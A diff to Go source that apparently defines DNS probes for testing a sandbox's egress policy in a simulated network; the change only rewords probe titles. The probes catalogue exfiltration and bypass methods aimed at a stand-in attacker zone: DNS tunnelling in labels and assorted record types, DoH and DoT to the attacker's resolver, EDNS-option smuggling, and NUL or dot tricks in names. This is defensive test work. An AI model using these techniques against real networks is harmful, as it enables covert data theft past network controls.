@@ -32,12 +32,12 @@ func (c nameProbes) otherResolvers() {
 			return Probe{task: t}
 		}
 	}
-	c.both("dns/other-resolver-udp", "ask a resolver of one's own over UDP", DNSTunnel, ask("udp", 53, c.victim))
-	c.both("dns/other-resolver-tcp", "ask a resolver of one's own over TCP", DNSOverTCP, ask("tcp", 53, c.victim))
-	c.both("dns/hosts-resolver", "ask the resolver that the host itself uses", DNSTunnel, ask("udp", 53, func(v Family) netip.Addr {
+	c.both("dns/other-resolver-udp", "query the attacker's resolver over UDP", DNSTunnel, ask("udp", 53, c.victim))
+	c.both("dns/other-resolver-tcp", "query the attacker's resolver over TCP", DNSOverTCP, ask("tcp", 53, c.victim))
+	c.both("dns/hosts-resolver", "query the host's resolver directly", DNSTunnel, ask("udp", 53, func(v Family) netip.Addr {
 		return v.of(simnet.Resolver4.Addr(), simnet.Resolver6.Addr())
 	}))
-	c.both("dns/over-tls", "ask over DNS over TLS", DoT, func(v Family) Probe {
+	c.both("dns/over-tls", "query the attacker's resolver over DNS over TLS", DoT, func(v Family) Probe {
 		return Probe{task: &task{
 			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 853, TLS: &tlsTask{SNI: "dns." + simnet.Attacker},
 			Send: []piece{{Data: question(c.token()+"."+simnet.Attacker, dns.TypeA, true)}},
@@ -48,14 +48,14 @@ func (c nameProbes) otherResolvers() {
 		return once(fmt.Sprintf("POST /dns-query HTTP/1.1\r\nHost: dns.%s\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\n\r\n%s",
 			simnet.Attacker, len(q), q))
 	}
-	c.both("dns/over-https", "ask over HTTPS, at an address", DoH, func(v Family) Probe {
+	c.both("dns/over-https", "query the attacker's resolver over HTTPS, at its address", DoH, func(v Family) Probe {
 		return Probe{task: &task{
 			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(c.token()),
 		}}
 	})
 	token := c.token()
 	c.add(Probe{
-		ID: "dns/over-https-by-name", Title: "ask over HTTPS, at a name that no rule names", Bypass: DoH,
+		ID: "dns/over-https-by-name", Title: "query the attacker's resolver over HTTPS, at its name", Bypass: DoH,
 		task: &task{Do: "talk", Name: token + "." + simnet.Attacker, Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(token)},
 	})
 }
@@ -63,26 +63,26 @@ func (c nameProbes) otherResolvers() {
 // tunnels adds queries that exfiltrate data through the sandbox's resolver.
 func (c nameProbes) tunnels() {
 	c.add(Probe{
-		ID: "dns/resolve-first", Title: "have a name resolved that is denied only at the connection", Bypass: ResolveFirst,
+		ID: "dns/resolve-first", Title: "resolve a name that the policy denies", Bypass: ResolveFirst,
 		task: &task{Do: "talk", Name: c.token() + "." + simnet.Attacker, Port: 80, Send: once("GET / HTTP/1.1\r\n\r\n")},
 	})
-	c.ask("dns/tunnel-labels", "data in the labels of an attacker's name", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/tunnel-labels", "data in the labels of a name in the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
 		label := strings.Repeat("0123456789abcdef", 3) + "0123"
 		return question(strings.Join([]string{token, label, label, label}, ".")+"."+simnet.Attacker, dns.TypeA, false)
 	})
-	c.ask("dns/tunnel-tcp", "the same over TCP", DNSOverTCP, "tcp", func(token string) []byte {
+	c.ask("dns/tunnel-tcp", "data in the labels of a name in the attacker's zone, over TCP", DNSOverTCP, "tcp", func(token string) []byte {
 		return question(token+"."+simnet.Attacker, dns.TypeTXT, true)
 	})
 	for _, qtype := range []uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypeSVCB} {
 		kind := dns.TypeToString[qtype]
-		c.ask("dns/tunnel-"+strings.ToLower(kind), "a "+kind+" question for an attacker's name", DNSTunnel, "udp", func(token string) []byte {
+		c.ask("dns/tunnel-"+strings.ToLower(kind), "query type "+kind+" for a name in the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
 			return question(token+"."+simnet.Attacker, qtype, false)
 		})
 	}
-	c.ask("dns/unnamed-sibling", "a name beside an allowed one", ResolveFirst, "udp", func(token string) []byte {
+	c.ask("dns/unnamed-sibling", "a sibling of an allowed name", ResolveFirst, "udp", func(token string) []byte {
 		return question(token+"."+simnet.Zone, dns.TypeA, false)
 	})
-	c.ask("dns/wildcard-txt", "a TXT question below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/wildcard-txt", "query type TXT for a name below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
 		return question(token+"."+simnet.Wild, dns.TypeTXT, false)
 	})
 	token := c.token()
@@ -91,21 +91,21 @@ func (c nameProbes) tunnels() {
 		list = append(list, fmt.Sprintf("%s-%s%02x.%s", token, strings.Repeat("9f3k7q", 7), i, simnet.Wild))
 	}
 	c.add(Probe{
-		ID: "dns/wildcard-labels", Title: "data in labels below an allowed wildcard: nothing of it goes upstream, and it is reported", Bypass: DNSTunnel,
+		ID: "dns/wildcard-labels", Title: "data in labels below an allowed wildcard: the resolver does not forward it, and reports it", Bypass: DNSTunnel,
 		task: &task{Do: "flood", Names: list}, check: onlySynthetic, proof: found("dns-tunnel", simnet.Wild),
 	})
 }
 
 // questions adds queries that a resolver may misread.
 func (c nameProbes) questions() {
-	c.ask("dns/ech-gateway", "an HTTPS question, for the key of ECH, for a name through the gateway", ECH, "udp", func(token string) []byte {
+	c.ask("dns/ech-gateway", "query type HTTPS, which carries ECH keys, for a name that the gateway serves", ECH, "udp", func(token string) []byte {
 		return question("ech-"+token+"."+simnet.Rebind, dns.TypeHTTPS, false)
 	}).proof = asked
-	p := c.ask("dns/ech-direct", "the same for a direct name", ECH, "udp", func(token string) []byte {
+	p := c.ask("dns/ech-direct", "query type HTTPS, which carries ECH keys, for a direct name", ECH, "udp", func(token string) []byte {
 		return question("ech-"+token+"."+simnet.RebindDirect, dns.TypeHTTPS, false)
 	})
 	p.proof, p.allowed = asked, asks
-	c.ask("dns/any-direct", "an ANY question for a direct name", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/any-direct", "query type ANY for a direct name", DNSTunnel, "udp", func(token string) []byte {
 		return question("public-"+token+"."+simnet.RebindDirect, dns.TypeANY, false)
 	})
 	for _, o := range []struct {
@@ -116,28 +116,28 @@ func (c nameProbes) questions() {
 		{"edns-option", &dns.EDNS0_LOCAL{Code: 65001, Data: []byte("data for the upstream server")}},
 		{"edns-cookie", &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "6461746164617461"}},
 	} {
-		p := c.ask("dns/"+o.id, "data in an option of EDNS, with an allowed question", DNSTunnel, "udp", func(token string) []byte {
+		p := c.ask("dns/"+o.id, "data in an EDNS option of an allowed query", DNSTunnel, "udp", func(token string) []byte {
 			return question("public-"+token+"."+simnet.RebindDirect, dns.TypeA, false, o.option)
 		})
 		p.allowed, p.check, p.proof = asks, nil, asked
 	}
-	c.ask("dns/two-questions", "an allowed question with another behind it", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/two-questions", "two questions in one query, the first allowed", DNSTunnel, "udp", func(token string) []byte {
 		m := message(simnet.Allowed, dns.TypeA)
 		m.Question = append(m.Question, dns.Question{Name: token + "." + simnet.Attacker + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET})
 		return wire(m, false)
 	}).proof = flawed("one question")
-	c.ask("dns/update", "an update of an attacker's zone", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/update", "a dynamic update of the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
 		m := message(token+"."+simnet.Attacker, dns.TypeSOA)
 		m.Opcode = dns.OpcodeUpdate
 		return wire(m, false)
 	}).proof = flawed("standard query")
-	c.ask("dns/dot-in-label", "a dot inside of a label, so that a name looks like one below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/dot-in-label", "a dot inside a label, which makes a name look like one below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
 		return question(token+`\.wild.`+simnet.Zone, dns.TypeA, false)
 	})
-	c.ask("dns/zero-in-label", "a NUL inside of a name, behind which the attacker's zone stands", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/zero-in-label", "an allowed name, a NUL and the attacker's zone in one name", DNSTunnel, "udp", func(token string) []byte {
 		return question(token+"."+simnet.Wild+`\000.`+simnet.Attacker, dns.TypeA, false)
 	})
-	c.ask("dns/class", "a question of another class than IN", DNSTunnel, "udp", func(token string) []byte {
+	c.ask("dns/class", "a query of a class other than IN", DNSTunnel, "udp", func(token string) []byte {
 		m := message(token+"."+simnet.Wild, dns.TypeA)
 		m.Question[0].Qclass = dns.ClassCHAOS
 		return wire(m, false)
